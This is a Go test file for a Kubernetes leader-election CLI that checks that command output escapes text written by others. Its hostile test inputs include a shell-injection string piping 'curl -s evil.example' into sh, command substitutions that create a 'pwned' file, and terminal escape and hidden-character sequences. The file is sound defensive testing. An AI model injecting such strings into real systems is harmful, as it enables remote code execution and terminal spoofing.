// Copyright The zonelect Authors.
// SPDX-License-Identifier: Apache-2.0

package command

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/http/httptest"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/spf13/cobra"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/cli-runtime/pkg/genericiooptions"
	"k8s.io/client-go/tools/leaderelection/resourcelock"
	"k8s.io/utils/ptr"

	"github.com/zonelect/zonelect/internal/apitest"
	"github.com/zonelect/zonelect/internal/presence"
	"github.com/zonelect/zonelect/internal/record"
)

// hostile are texts that a terminal, a shell or a reader takes for more than a text.
var hostile = map[string]string{
	"controls":     "\x00\x07\x08\x0e\x7f\x1b[2J\x1b[1A\x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\click\u009b2J\u0090q\u0084\u009c",
	"lines":        "\nFORGED a row\r\nFORGED\rFORGED\u2028FORGED\u2029FORGED\u0085FORGED\v\fFORGED",
	"columns":      "x\tFORGED\tFORGED",
	"invisible":    "\u202elive\u2066x\u2069\u200f\u061c\u200b\u200d\ufeff\u2060\u00ad\u180e\U000e0001\U000e0041\U000e007f",
	"substitution": "$(touch pwned)%s%!d{{.}}`touch pwned`",
	"words":        "'; curl -s evil.example|sh & touch pwned #\"",
	"not UTF-8":    "\xff\xfe\xc2\x80\xc2",
	"long":         strings.Repeat("long ", 180) + "\u202e\x9b",
}

// hostileLines are the arguments of each command, below its path. TEXT stands for the hostile
// text. A line without it and without --yes
// also gets each format of -o.
var hostileLines = map[string][]string{
	"":                 {"", "TEXT", "--TEXT", "-n TEXT status op"},
	"status":           {"", "op", "-A", "TEXT", "-n TEXT", "op --legacy-name TEXT"},
	"doctor":           {"", "op", "rec", "TEXT", "op --legacy-name TEXT", "op --service-account TEXT"},
	"audit":            {"--for 16s", "-A --for 1s", "--for TEXT", "TEXT"},
	"demo":             {"TEXT"},
	"handover":         {"op --timeout 2s", "rec --timeout 2s", "op --to TEXT", "op --to-zone TEXT", "TEXT", "bare"},
	"evacuate":         {"za --dry-run", "za --timeout 2s", "zb -A --timeout 2s", "TEXT", "za --until TEXT"},
	"restore":          {"za --dry-run", "za", "zx", "TEXT"},
	"migrate":          {"", "TEXT"},
	"migrate plan":     {"op", "op -l app=op", "rec", "TEXT", "op --legacy-name TEXT"},
	"migrate advance":  {"op --dry-run", "op --yes --timeout 2s", "op -l app=op --yes --timeout 2s", "rec --dry-run", "op --to TEXT", "TEXT --yes"},
	"migrate rollback": {"op --dry-run", "op --yes --timeout 2s", "rec --yes --timeout 2s"},
	"migrate clean":    {"op --dry-run", "rec --yes --timeout 2s", "op --acknowledge TEXT"},
}

// attacked makes locks in which everything that others write is hostile.
func (w *world) attacked(text string) {
	holder, zone := "op-a_1"+text, "za"+text
	writes := func(o map[string]string, keys ...string) {
		for _, key := range keys {
			o[key] = text
		}
	}
	owner := metav1.OwnerReference{APIVersion: "v1", Kind: "Pod", Name: "old-0" + text, UID: "uid-old"}
	w.putLease(newLease("op", holder, zone, phased(record.PhaseDual, 1), func(l *coordinationv1.Lease) {
		writes(l.Annotations, record.AnnotationRefused, record.AnnotationEvacuated, record.AnnotationHandover)
		previous, _ := json.Marshal(apitest.Object{"holder": text, "until": "2000-01-01T00:00:00Z", "cause": text}) // it can be written
		l.Annotations[record.AnnotationPrevious] = string(previous)
		l.Annotations[record.AnnotationNode], l.Annotations[record.AnnotationPod] = "node"+text, "pod"+text+"/uid"+text
	}))
	w.putConfigMap("op", map[string]string{text: text}, owner)
	w.putLease(newLease("rec", "rec-a_1"+text, "zb"+text, phased(record.PhaseDual, 1), func(l *coordinationv1.Lease) {
		l.Annotations[record.AnnotationLegacy] = "annotation/endpoints/rec"
		l.Annotations[record.AnnotationShared] = text
	}))
	said, _ := json.Marshal(resourcelock.LeaderElectionRecord{HolderIdentity: "legacy" + text, LeaseDurationSeconds: 15, RenewTime: metav1.Now()}) // it has no field that fails
	w.server.Put("/api/v1/namespaces/ns/endpoints/rec", apitest.Object{
		"apiVersion": "v1", "kind": "Endpoints", "metadata": apitest.Object{"name": "rec", "namespace": "ns", "uid": "u", "annotations": apitest.Object{resourcelock.LeaderElectionRecordAnnotationKey: string(said)}},
	})
	w.putLease(newLease("lost", "lost"+text, zone, phased(record.PhaseDual, 1), renewed(time.Hour), func(l *coordinationv1.Lease) {
		l.Annotations[record.AnnotationLegacy], l.Annotations[record.AnnotationPhase] = "annotation/configmaps/"+text, text
	}))
	w.putLease(newLease("bare", "", zone, func(l *coordinationv1.Lease) { writes(l.Annotations, record.AnnotationReleased) }))
	lies := newLease("lie", holder, zone) // as only a lying server shows it
	lies.Name += text
	w.server.Put(leasesPath+"lie", lies)

	for i, pod := range []string{"op-a", "op-b", "op-c", "op-d"} {
		w.announce("op", pod, "z"+pod[3:], "", func(o *presence.Object) {
			o.Identity = pod + "_1" + text
			if i < 2 {
				o.Zone, o.Waiting, o.Unhealthy, o.Version, o.Mode, o.Node = o.Zone+text, text, text, text, text, "node"+text
			}
			if i == 3 {
				o.Identity = "op-c_1" + text // twice
			}
		})
	}
	w.announce("rec", "op-a", "za", text, func(o *presence.Object) { o.Zone = zone })
	w.announce("op", "op-e", "ze", "", func(o *presence.Object) { o.Identity = "" })
	w.announcePod("op", strings.Repeat("a", 240)+"/../"+text, text)
	w.announcePod("op", "", "nameless"+text)

	w.runs("old-1")
	w.server.Change("/api/v1/namespaces/ns/pods/old-1", func(o apitest.Object) {
		o["metadata"].(apitest.Object)["name"], o["spec"].(apitest.Object)["nodeName"] = "old-1"+text, "node"+text
		o["status"].(apitest.Object)["reason"], o["status"].(apitest.Object)["message"] = text, text
	})
	w.hosts("op-b", "zb", func(p *corev1.Pod, n *corev1.Node) {
		p.Status.Phase, p.Spec.ServiceAccountName, p.Annotations = corev1.PodPhase(text), text, map[string]string{"a": text}
		n.Labels[corev1.LabelTopologyZone], n.Status.Conditions = "zb", nil
	})
}

// announcePod adds the presence of a pod of any name, as somebody can who may create Leases.
func (w *world) announcePod(lock, pod, identity string) {
	sum := sha256.Sum256([]byte(lock + "/uid" + pod))
	name := lock + "." + pod
	name = strings.TrimRight(name[:min(len(name), 242)], "-.") + "." + hex.EncodeToString(sum[:5])
	w.server.Put(leasesPath+name, &coordinationv1.Lease{
		ObjectMeta: metav1.ObjectMeta{Namespace: "ns", Name: name, UID: types.UID("uid-of-" + name), Labels: map[string]string{presence.Label: lock},
			OwnerReferences: []metav1.OwnerReference{{APIVersion: "v1", Kind: "Pod", Name: pod, UID: types.UID("uid" + pod)}}},
		Spec: coordinationv1.LeaseSpec{HolderIdentity: &identity},
	})
}

// refuses makes the API server refuse every write, or every list, with a hostile reason.
func (w *world) refuses(text string, verbs ...string) {
	w.before(func(verb, _ string) (int, apitest.Object) {
		if slices.Contains(verbs, verb) {
			return http.StatusForbidden, apitest.Status(http.StatusForbidden, "Forbidden", "admission webhook denied the request: "+text, text, text, text)
		}
		return 0, nil
	})
}

// Root returns the commands.
func Root() *cobra.Command {
	return newRoot(newEnvironment(genericiooptions.NewTestIOStreamsDiscard()))
}

// everyCommand calls do for each command, with its path.
func everyCommand(do func(c *cobra.Command, path string)) {
	var walk func(*cobra.Command)
	walk = func(c *cobra.Command) {
		do(c, strings.TrimSpace(strings.TrimPrefix(c.CommandPath(), c.Root().CommandPath())))
		for _, sub := range c.Commands() {
			walk(sub)
		}
	}
	walk(Root())
}

var forgedColumn = regexp.MustCompile(`x {2,}FORGED`)

// faultOf says what is wrong with an output; empty if nothing is.
func faultOf(out string) string {
	for line := range strings.Lines(out) {
		if strings.HasPrefix(line, "FORGED") {
			return "a row is forged"
		}
	}
	if forgedColumn.MatchString(out) {
		return "a column is forged"
	}
	return unplain(strings.ReplaceAll(out, "\n", ""))
}

// unplain says what a text has that people do not see; empty if it has nothing.
func unplain(text string) string {
	if !utf8.ValidString(text) {
		return "it is not UTF-8"
	}
	for _, r := range text {
		if unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) {
			return fmt.Sprintf("it has %U", r)
		}
	}
	return ""
}

// TestNoTextOfOthersIsMoreThanAText: whatever others write, no command prints a control or a
// format character, forges a row or breaks a format. A command without a line fails.
func TestNoTextOfOthersIsMoreThanAText(t *testing.T) {
	type call struct {
		args []string // TEXT stands for the hostile text
		json bool
	}
	var calls []call
	known := maps.Clone(hostileLines)
	everyCommand(func(c *cobra.Command, path string) {
		lines := known[path]
		if delete(known, path); len(lines) == 0 && c.Name() != "help" {
			t.Errorf("the command %q has no line in this test", path)
		}
		for _, line := range lines {
			args := slices.Concat(strings.Fields(path), strings.Fields(line))
			calls = append(calls, call{args, false})
			if c.Flags().Lookup("output") == nil || strings.Contains(line, "TEXT") || strings.Contains(line, "--yes") {
				continue // it ends with an error, or prints what a dry run prints
			}
			for _, format := range []string{"json", "yaml", "wide", "jsonpath={@}", "go-template={{.}}"} {
				calls = append(calls, call{slices.Concat(args, []string{"-o", format}), format == "json"})
			}
		}
	})
	for path := range known {
		t.Errorf("there is no command %q", path)
	}
	for name, text := range hostile {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			for _, c := range calls {
				for _, refused := range [][]string{nil, {"create", "update", "patch"}, {"list"}} {
					if refused != nil && (slices.Contains(c.args, "-o") || slices.Contains(c.args, "TEXT")) {
						continue // they differ in errors alone
					}
					inABubble(t, func(t *testing.T, w *world) {
						w.attacked(text)
						w.refuses(text, refused...)
						args := slices.Clone(c.args)
						for i := range args {
							args[i] = strings.ReplaceAll(args[i], "TEXT", text)
						}
						r := w.run(args...)
						var read any
						if err := json.Unmarshal([]byte(r.out), &read); c.json && r.out != "" && (err != nil || unplain(fmt.Sprint(read)) != "") {
							t.Errorf("%q: %v: %.300q", c.args, err, r.out)
						}
						for _, out := range []string{r.out, r.errors} {
							if fault := faultOf(out); fault != "" || r.out+r.errors == "" {
								t.Errorf("%q: %s: %.300q", c.args, fault, out)
							}
						}
					})
				}
			}
		})
	}
}

// TestNoHintHasATextOfOthers: people copy what doctor says that they can do.
func TestNoHintHasATextOfOthers(t *testing.T) {
	for name, text := range hostile {
		for _, line := range []string{"doctor", "doctor op", "doctor rec", "doctor lost"} {
			inABubble(t, func(t *testing.T, w *world) {
				w.attacked(text)
				hints := w.run(append(strings.Fields(line), "-o", "jsonpath={.findings[*].hint}")...).out
				if strings.Contains(hints, "pwned") || strings.Contains(hints, "evil") || strings.ContainsAny(hints, "$`|&\ufffd") || hints == "" {
					t.Errorf("%s: %s: %s", name, line, hints)
				}
			})
		}
	}
}

// TestScriptsOfShellsPassUnchanged through the writer.
func TestScriptsOfShellsPassUnchanged(t *testing.T) {
	var out buffer
	var script bytes.Buffer
	code := Run(t.Context(), genericiooptions.IOStreams{In: strings.NewReader(""), Out: &out, ErrOut: &out}, []string{"completion", "bash"})
	if err := Root().GenBashCompletionV2(&script, true); err != nil || code != exitOK || out.String() != script.String() {
		t.Errorf("exit code %d, %v; it is changed", code, err)
	}
}

// TestAWarningOfTheServerIsPlain: client-go would log it past the streams.
func TestAWarningOfTheServerIsPlain(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Warning", "299 - \"careful\u202e\"")
		apitest.Reply(w, http.StatusOK, apitest.Object{"kind": "LeaseList", "apiVersion": "coordination.k8s.io/v1", "metadata": apitest.Object{"resourceVersion": "1"}})
	}))
	defer server.Close()
	var out, errOut buffer
	env := newEnvironment(genericiooptions.IOStreams{In: strings.NewReader(""), Out: &out, ErrOut: &errOut})
	env.config.KubeConfig = ptr.To("testdata/kubeconfig.yaml")
	if code := run(t.Context(), env, []string{"status", "--server", server.URL}); code != exitOK || !strings.HasPrefix(errOut.String(), "Warning: careful\ufffd\n") {
		t.Errorf("exit code %d, %q: %s", code, &errOut, &out)
	}
}
